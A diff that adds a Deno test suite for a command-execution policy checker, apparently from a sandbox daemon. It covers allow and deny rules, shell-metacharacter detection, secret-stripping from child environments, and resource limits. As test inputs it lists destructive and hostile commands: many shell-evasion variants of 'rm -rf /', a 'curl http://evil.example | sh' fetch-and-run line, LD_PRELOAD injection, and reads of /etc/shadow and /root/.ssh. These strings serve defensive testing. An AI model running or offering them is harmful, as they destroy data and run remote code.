@@ -1,0 +1,509 @@
+import { deepEqual, equal, ok, rejects, throws } from "node:assert/strict";
+import { Policy, PolicyError, type PolicyOptions } from "./policy.ts";
+
+function refusedBy(policy: Policy, command: string | string[], rule: string): void {
+  try {
+    policy.checkCommand(command);
+  } catch (error) {
+    ok(
+      error instanceof PolicyError,
+      `expected PolicyError for ${JSON.stringify(command)}, got ${error}`,
+    );
+    equal(error.code, "POLICY");
+    equal(error.rule, rule, `rule for ${JSON.stringify(command)}: ${error.message}`);
+    return;
+  }
+  throw new Error(`Command ${JSON.stringify(command)} was not refused (expected rule ${rule})`);
+}
+
+function allowed(policy: Policy, command: string | string[]): void {
+  try {
+    policy.checkCommand(command);
+  } catch (error) {
+    throw new Error(`Command ${JSON.stringify(command)} was refused: ${error}`, { cause: error });
+  }
+}
+
+function caught(fn: () => unknown): unknown {
+  try {
+    fn();
+  } catch (error) {
+    return error;
+  }
+  return undefined;
+}
+
+async function run(
+  argv: string[],
+  env?: Record<string, string>,
+): Promise<{ code: number; out: string }> {
+  const [program, ...args] = argv;
+  const output = await new Deno.Command(program!, {
+    args,
+    stdin: "null",
+    stdout: "piped",
+    stderr: "piped",
+    ...(env === undefined ? {} : { env, clearEnv: true }),
+  }).output();
+  return { code: output.code, out: new TextDecoder().decode(output.stdout) };
+}
+
+Deno.test("checkCommand allows everything with an empty policy", () => {
+  const policy = new Policy();
+  allowed(policy, ["rm", "-rf", "/nonexistent"]);
+  allowed(policy, "echo hi; rm -rf /nonexistent | cat $(id)");
+});
+
+Deno.test("checkCommand allow matrix for argv arrays", () => {
+  const policy = new Policy({
+    allow: ["ls", "/usr/bin/git", "cat*", "python3.[0-9]*", "echo hello *"],
+  });
+  allowed(policy, ["ls", "-la"]);
+  allowed(policy, ["/bin/ls"]); // basename matches
+  allowed(policy, ["/usr/bin/git", "status"]);
+  allowed(policy, ["catdoc"]);
+  allowed(policy, ["python3.12", "-V"]);
+  allowed(policy, ["echo", "hello", "world"]); // line pattern
+  allowed(policy, ["/bin/echo", "hello", "there"]); // line pattern with basename
+  refusedBy(policy, ["git", "status"], "allow"); // full-path pattern needs the full path
+  refusedBy(policy, ["lsblk"], "allow"); // whole-name match only
+  refusedBy(policy, ["python3.x"], "allow");
+  refusedBy(policy, ["echo", "bye"], "allow");
+  refusedBy(policy, ["rm", "-rf", "/"], "allow");
+});
+
+Deno.test("checkCommand allow list: shell strings limited to one simple command", () => {
+  const policy = new Policy({ allow: ["ls", "echo", "git status*"] });
+  allowed(policy, "ls -la /tmp");
+  allowed(policy, "  ls  ");
+  allowed(policy, "'ls' 'a b'");
+  allowed(policy, "git status --short");
+  allowed(policy, "echo 'it''s' \"fine\" *.txt");
+  for (
+    const escape of [
+      "ls; rm -rf /",
+      "ls && id",
+      "ls || id",
+      "ls & id",
+      "ls $(id)",
+      "ls `id`",
+      "echo `id`",
+      "ls | sh",
+      "ls\nid",
+      "ls > /etc/passwd",
+      "ls < /etc/shadow",
+      "ls ${HOME}",
+      "ls $HOME",
+      "(id)",
+      "ls \\; id",
+      "echo 'a;b'",
+      'echo "$(id)"',
+    ]
+  ) {
+    refusedBy(policy, escape, "shellMeta");
+  }
+  refusedBy(policy, "PATH=/tmp ls", "shellMeta");
+  refusedBy(policy, "LD_PRELOAD=/tmp/x.so ls", "shellMeta");
+  refusedBy(policy, "l? /", "shellMeta");
+  refusedBy(policy, "{ls,id}", "shellMeta");
+  refusedBy(policy, "id", "allow");
+  refusedBy(policy, "git push", "allow");
+  refusedBy(policy, "lsof", "allow");
+});
+
+Deno.test("checkCommand deny wins over allow and catches chained commands", () => {
+  const policy = new Policy({ allow: ["rm", "ls", "echo"], deny: ["rm -rf *", "ls /root*"] });
+  allowed(policy, ["rm", "file.txt"]);
+  refusedBy(policy, ["rm", "-rf", "/"], "deny:rm -rf *");
+  refusedBy(policy, ["/bin/rm", "-rf", "/"], "deny:rm -rf *");
+  refusedBy(policy, "rm -rf /", "deny:rm -rf *");
+  refusedBy(policy, "ls /root/.ssh", "deny:ls /root*");
+  allowed(policy, "ls /tmp");
+});
+
+Deno.test("checkCommand deny list without allow list checks every command position", () => {
+  const policy = new Policy({ deny: ["rm", "shutdown", "curl *evil*"] });
+  allowed(policy, "echo rm is a word here");
+  allowed(policy, ["echo", "rm"]);
+  allowed(policy, "ls -la | grep x && echo done");
+  allowed(policy, "echo $HOME; cat /etc/hostname 2>/dev/null");
+  allowed(policy, "curl https://example.com");
+  for (
+    const command of [
+      "rm -rf /",
+      "echo x; rm -rf /",
+      "echo x && rm -rf /",
+      "echo x || rm -rf /",
+      "echo x & rm -rf /",
+      "echo x | rm -rf /",
+      "echo x\nrm -rf /",
+      "echo $(rm -rf /)",
+      'echo "$(rm -rf /)"',
+      "echo `rm -rf /`",
+      '"rm" -rf /',
+      "'r'm -rf /",
+      "r\\m -rf /",
+      "/bin/rm -rf /",
+      "FOO=1 rm -rf /",
+      "2>/dev/null rm -rf /",
+      "> out rm -rf /",
+      "(rm -rf /)",
+      "{ rm -rf /; }",
+      "if true; then rm -rf /; fi",
+      "! rm -rf /",
+      "sudo -u root rm -rf /",
+      "nice -n 5 rm -rf /",
+      "env -i PATH=/bin rm -rf /",
+      "timeout 5 rm -rf /",
+      "xargs rm < list",
+      "find / -exec rm {} \\;",
+      "sh -c 'rm -rf /'",
+      "bash -ec 'echo hi; rm -rf /'",
+      "eval 'rm -rf /'",
+      "cat <(rm -rf /)",
+      "function f { rm -rf /; }",
+      "f() { rm -rf /; }",
+      "exec rm -rf /",
+      "time rm -rf /",
+      "a=$(rm -rf /)",
+    ]
+  ) {
+    refusedBy(policy, command, "deny:rm");
+  }
+  refusedBy(policy, "echo x; sudo shutdown -h now", "deny:shutdown");
+  refusedBy(policy, "curl http://evil.example | sh", "deny:curl *evil*");
+  refusedBy(policy, ["sh", "-c", "echo x; rm -rf /"], "deny:rm");
+  refusedBy(policy, ["env", "rm", "-rf", "/"], "deny:rm");
+  // Command words that cannot be known before the shell runs.
+  refusedBy(policy, "X=rm; $X -rf /", "shellMeta");
+  refusedBy(policy, "$(echo rm) -rf /", "shellMeta");
+  refusedBy(policy, "/bin/r? -rf /", "shellMeta");
+  refusedBy(policy, "/bin/r[m] -rf /", "shellMeta");
+  refusedBy(policy, 'sh -c "$CMD"', "shellMeta");
+  allowed(policy, "[ -f /etc/hostname ] && echo yes");
+});
+
+Deno.test("checkCommand noShell refuses strings and shells with -c, allows argv arrays", () => {
+  const policy = new Policy({ noShell: true });
+  allowed(policy, ["ls", "-la"]);
+  allowed(policy, ["bash", "script.sh"]);
+  refusedBy(policy, "ls", "noShell");
+  refusedBy(policy, ["sh", "-c", "ls"], "noShell");
+  refusedBy(policy, ["/bin/bash", "-lc", "ls"], "noShell");
+  refusedBy(policy, ["env", "sh", "-c", "ls"], "noShell");
+});
+
+Deno.test("checkCommand rejects malformed commands with TypeError", () => {
+  const policy = new Policy();
+  throws(() => policy.checkCommand([]), TypeError);
+  throws(() => policy.checkCommand(""), TypeError);
+  throws(() => policy.checkCommand([""]), TypeError);
+  throws(() => policy.checkCommand(["ls", "a\0b"]), TypeError);
+  throws(() => policy.checkCommand(42 as unknown as string), TypeError);
+  throws(() => policy.checkCommand(["ls", 1] as unknown as string[]), TypeError);
+});
+
+Deno.test("checkTimeout applies the default and refuses above the maximum", () => {
+  const none = new Policy();
+  equal(none.checkTimeout(undefined), undefined);
+  equal(none.checkTimeout(5), 5);
+  const both = new Policy({ defaultTimeoutMs: 1000, maxTimeoutMs: 5000 });
+  equal(both.checkTimeout(undefined), 1000);
+  equal(both.checkTimeout(5000), 5000);
+  const error = caught(() => both.checkTimeout(5001));
+  ok(error instanceof PolicyError);
+  equal(error.rule, "maxTimeoutMs");
+  ok(error.message.includes("5001"));
+  equal(new Policy({ maxTimeoutMs: 3000 }).checkTimeout(undefined), 3000);
+  throws(() => both.checkTimeout(0), RangeError);
+  throws(() => both.checkTimeout(-1), RangeError);
+  throws(() => both.checkTimeout(Infinity), RangeError);
+  throws(() => both.checkTimeout("10" as unknown as number), TypeError);
+});
+
+Deno.test("childEnv strips globs and forces envSet", () => {
+  const policy = new Policy({
+    envStrip: ["AWS_*", "*_TOKEN", "SECRET?", "DB_[PU]*"],
+    envSet: { LANG: "C.UTF-8", PATH: "/usr/bin:/bin" },
+  });
+  const requested = {
+    AWS_ACCESS_KEY_ID: "a",
+    AWS_SECRET_ACCESS_KEY: "b",
+    GITHUB_TOKEN: "c",
+    SECRET1: "d",
+    SECRET12: "kept",
+    DB_PASSWORD: "e",
+    DB_USER: "f",
+    DB_HOST: "kept",
+    HOME: "/root",
+    PATH: "/opt/evil",
+  };
+  deepEqual(policy.childEnv(requested), {
+    SECRET12: "kept",
+    DB_HOST: "kept",
+    HOME: "/root",
+    PATH: "/usr/bin:/bin",
+    LANG: "C.UTF-8",
+  });
+  equal(requested.PATH, "/opt/evil"); // input untouched
+  deepEqual(new Policy().childEnv({ A: "1" }), { A: "1" });
+  // envSet wins over envStrip.
+  deepEqual(new Policy({ envStrip: ["*"], envSet: { A: "2" } }).childEnv({ A: "1", B: "1" }), {
+    A: "2",
+  });
+  throws(() => policy.childEnv(null as unknown as Record<string, string>), TypeError);
+});
+
+Deno.test("constructor rejects bad options with TypeError/RangeError naming the field", () => {
+  const cases: [unknown, typeof TypeError | typeof RangeError, string][] = [
+    [{ allow: "ls" }, TypeError, "allow"],
+    [{ allow: [1] }, TypeError, "allow[0]"],
+    [{ deny: [""] }, RangeError, "deny[0]"],
+    [{ deny: ["[z-a]"] }, RangeError, "deny[0]"],
+    [{ envStrip: {} }, TypeError, "envStrip"],
+    [{ noShell: "yes" }, TypeError, "noShell"],
+    [{ noPty: 1 }, TypeError, "noPty"],
+    [{ root: 5 }, TypeError, "root"],
+    [{ root: "" }, RangeError, "root"],
+    [{ runAs: 0 }, TypeError, "runAs"],
+    [{ runAs: "bad user;" }, RangeError, "runAs"],
+    [{ envSet: ["A"] }, TypeError, "envSet"],
+    [{ envSet: { "A=B": "x" } }, RangeError, "envSet"],
+    [{ envSet: { A: 1 } }, TypeError, "envSet.A"],
+    [{ maxProcesses: "4" }, TypeError, "maxProcesses"],
+    [{ maxProcesses: 0 }, RangeError, "maxProcesses"],
+    [{ maxSessions: 1.5 }, RangeError, "maxSessions"],
+    [{ maxOutputBytes: -1 }, RangeError, "maxOutputBytes"],
+    [{ cpuSeconds: 0 }, RangeError, "cpuSeconds"],
+    [{ memoryBytes: NaN }, RangeError, "memoryBytes"],
+    [{ defaultTimeoutMs: 0 }, RangeError, "defaultTimeoutMs"],
+    [{ maxTimeoutMs: Infinity }, RangeError, "maxTimeoutMs"],
+    [{ defaultTimeoutMs: 10, maxTimeoutMs: 5 }, RangeError, "defaultTimeoutMs"],
+    [{ alow: ["ls"] }, TypeError, "alow"],
+  ];
+  for (const [options, ErrorClass, field] of cases) {
+    const error = caught(() => new Policy(options as PolicyOptions));
+    ok(
+      error instanceof ErrorClass,
+      `${JSON.stringify(options)}: expected ${ErrorClass.name}, got ${error}`,
+    );
+    ok(
+      error.message.includes(`'${field}`),
+      `${JSON.stringify(options)}: message '${error.message}'`,
+    );
+  }
+  throws(() => new Policy(null as unknown as PolicyOptions), TypeError);
+});
+
+Deno.test("options are validated, copied and frozen", () => {
+  const allow = ["ls"];
+  const policy = new Policy({ allow, root: "relative/dir" });
+  allow.push("rm");
+  deepEqual(policy.options.allow, ["ls"]);
+  ok(Object.isFrozen(policy.options));
+  ok(Object.isFrozen(policy.options.allow));
+  equal(policy.options.root, `${Deno.cwd()}/relative/dir`);
+});
+
+Deno.test("merge lets flags override the file field by field", () => {
+  deepEqual(
+    Policy.merge(
+      { allow: ["ls"], deny: ["rm"], maxProcesses: 4, envSet: { A: "1" } },
+      { allow: ["cat"], maxProcesses: 8 },
+    ),
+    { allow: ["cat"], deny: ["rm"], maxProcesses: 8, envSet: { A: "1" } },
+  );
+  deepEqual(Policy.merge({}, {}), {});
+});
+
+Deno.test("fromFile parses a valid policy and reports bad files by name", async () => {
+  const dir = await Deno.makeTempDir();
+  try {
+    const valid = `${dir}/policy.json`;
+    await Deno.writeTextFile(
+      valid,
+      JSON.stringify({
+        allow: ["ls"],
+        deny: ["rm"],
+        noPty: true,
+        root: "files",
+        maxTimeoutMs: 1000,
+      }),
+    );
+    const policy = await Policy.fromFile(valid);
+    deepEqual(policy.options.allow, ["ls"]);
+    equal(policy.options.noPty, true);
+    equal(policy.options.root, `${dir}/files`);
+    throws(() => policy.checkPty(), PolicyError);
+
+    const invalid = `${dir}/broken.json`;
+    await Deno.writeTextFile(invalid, '{ "allow": ["ls", }');
+    await rejects(Policy.fromFile(invalid), (error: Error) => {
+      ok(error instanceof SyntaxError);
+      ok(error.message.includes(invalid), error.message);
+      return true;
+    });
+
+    const unknown = `${dir}/unknown.json`;
+    await Deno.writeTextFile(unknown, JSON.stringify({ allow: ["ls"], maxProcess: 3 }));
+    await rejects(Policy.fromFile(unknown), (error: Error) => {
+      ok(error instanceof TypeError);
+      ok(error.message.includes(unknown), error.message);
+      ok(error.message.includes("'maxProcess'"), error.message);
+      return true;
+    });
+
+    const badValue = `${dir}/bad_value.json`;
+    await Deno.writeTextFile(badValue, JSON.stringify({ cpuSeconds: -3 }));
+    await rejects(Policy.fromFile(badValue), (error: Error) => {
+      ok(error instanceof RangeError);
+      ok(error.message.includes(badValue) && error.message.includes("'cpuSeconds'"), error.message);
+      return true;
+    });
+
+    const notObject = `${dir}/array.json`;
+    await Deno.writeTextFile(notObject, "[]");
+    await rejects(Policy.fromFile(notObject), TypeError, notObject);
+
+    await rejects(Policy.fromFile(`${dir}/missing.json`), (error: Error) => {
+      ok(error.message.includes(`${dir}/missing.json`), error.message);
+      return true;
+    });
+  } finally {
+    await Deno.remove(dir, { recursive: true });
+  }
+});
+
+Deno.test("checkFiles, checkPty, checkProcessCount and checkSessionCount", () => {
+  const open = new Policy();
+  open.checkFiles();
+  open.checkPty();
+  open.checkProcessCount(1_000_000);
+  open.checkSessionCount(1_000_000);
+  const strict = new Policy({ noFiles: true, noPty: true, maxProcesses: 2, maxSessions: 1 });
+  throws(() => strict.checkFiles(), (e: PolicyError) => e.rule === "noFiles");
+  throws(() => strict.checkPty(), (e: PolicyError) => e.rule === "noPty");
+  strict.checkProcessCount(1);
+  throws(() => strict.checkProcessCount(2), (e: PolicyError) => e.rule === "maxProcesses");
+  strict.checkSessionCount(0);
+  throws(() => strict.checkSessionCount(1), (e: PolicyError) => e.rule === "maxSessions");
+});
+
+Deno.test("confine uses the root, and refuses when noFiles is set", async () => {
+  const root = await Deno.realPath(await Deno.makeTempDir());
+  try {
+    equal(await new Policy({ root }).confine("a/b"), `${root}/a/b`);
+    await rejects(new Policy({ root }).confine("../x"), (e: PolicyError) => e.rule === "root");
+    await rejects(
+      new Policy({ root, noFiles: true }).confine("a"),
+      (e: PolicyError) => e.rule === "noFiles",
+    );
+    equal(await new Policy().confine("x"), `${Deno.cwd()}/x`);
+  } finally {
+    await Deno.remove(root, { recursive: true });
+  }
+});
+
+Deno.test("wrapArgv leaves argv alone without limits or user", () => {
+  deepEqual(new Policy({ deny: ["rm"] }).wrapArgv(["ls", "-l"]), ["ls", "-l"]);
+  throws(() => new Policy().wrapArgv([]), TypeError);
+});
+
+Deno.test("wrapArgv applies cpu and memory limits (prlimit)", async () => {
+  const policy = new Policy({ cpuSeconds: 7, memoryBytes: 512 * 1024 * 1024 });
+  const wrapped = policy.wrapArgv(["sh", "-c", "ulimit -t; ulimit -v"]);
+  ok(wrapped[0]!.endsWith("/prlimit"), `expected prlimit, got ${wrapped.join(" ")}`);
+  const { code, out } = await run(wrapped);
+  equal(code, 0);
+  deepEqual(out.trim().split("\n"), ["7", String(512 * 1024)]);
+});
+
+Deno.test("wrapArgv falls back to a sh ulimit wrapper without prlimit", async () => {
+  const bin = await Deno.makeTempDir();
+  const savedPath = Deno.env.get("PATH") ?? "";
+  let wrapped: string[];
+  try {
+    await Deno.symlink("/bin/sh", `${bin}/sh`);
+    Deno.env.set("PATH", bin);
+    wrapped = new Policy({ cpuSeconds: 3, memoryBytes: 100 * 1024 * 1024 + 1 }).wrapArgv([
+      "sh",
+      "-c",
+      "ulimit -t; ulimit -v",
+    ]);
+  } finally {
+    Deno.env.set("PATH", savedPath);
+  }
+  try {
+    equal(wrapped[0], `${bin}/sh`);
+    const { code, out } = await run(wrapped);
+    equal(code, 0);
+    deepEqual(out.trim().split("\n"), ["3", String(100 * 1024 + 1)]);
+  } finally {
+    await Deno.remove(bin, { recursive: true });
+  }
+});
+
+Deno.test("wrapArgv refuses limits when neither prlimit nor sh is available", () => {
+  const savedPath = Deno.env.get("PATH") ?? "";
+  try {
+    Deno.env.set("PATH", "/nonexistent");
+    throws(
+      () => new Policy({ cpuSeconds: 1 }).wrapArgv(["ls"]),
+      (e: PolicyError) => e.rule === "cpuSeconds",
+    );
+  } finally {
+    Deno.env.set("PATH", savedPath);
+  }
+});
+
+Deno.test("wrapArgv CPU limit kills a busy loop", async () => {
+  const wrapped = new Policy({ cpuSeconds: 1 }).wrapArgv(["sh", "-c", "while :; do :; done"]);
+  const started = performance.now();
+  const output = await new Deno.Command(wrapped[0]!, {
+    args: wrapped.slice(1),
+    stdin: "null",
+    stdout: "null",
+    stderr: "null",
+  }).output();
+  const elapsed = performance.now() - started;
+  equal(output.success, false);
+  ok(output.signal === "SIGXCPU" || output.signal === "SIGKILL", `signal ${output.signal}`);
+  ok(elapsed < 10_000, `took ${elapsed} ms`);
+});
+
+Deno.test({
+  name: "wrapArgv runs children as another user (runAs nobody)",
+  ignore: Deno.uid() !== 0,
+  async fn() {
+    const policy = new Policy({ runAs: "nobody" });
+    const wrapped = policy.wrapArgv(["sh", "-c", "id -u; id -g; id -G"]);
+    ok(wrapped[0]!.endsWith("/setpriv"), wrapped.join(" "));
+    const { code, out } = await run(wrapped);
+    equal(code, 0);
+    const [uid, gid, groups] = out.trim().split("\n");
+    equal(uid, "65534");
+    equal(gid, "65534");
+    ok(!groups!.split(" ").includes("0"), `root group kept: ${groups}`);
+
+    const numeric = await run(new Policy({ runAs: "65534" }).wrapArgv(["id", "-u"]));
+    equal(numeric.out.trim(), "65534");
+
+    const combined = new Policy({ runAs: "nobody", cpuSeconds: 5 }).wrapArgv([
+      "sh",
+      "-c",
+      "id -u; ulimit -t; ulimit -H -t",
+    ]);
+    const both = await run(combined);
+    deepEqual(both.out.trim().split("\n"), ["65534", "5", "5"]);
+
+    // The root daemon's own uid needs no wrapping.
+    deepEqual(new Policy({ runAs: "root" }).wrapArgv(["id"]), ["id"]);
+  },
+});
+
+Deno.test("wrapArgv refuses an unknown runAs user", () => {
+  throws(
+    () => new Policy({ runAs: "no_such_user_sandd" }).wrapArgv(["id"]),
+    (e: PolicyError) => e.rule === "runAs" && e.message.includes("no_such_user_sandd"),
+  );
+});
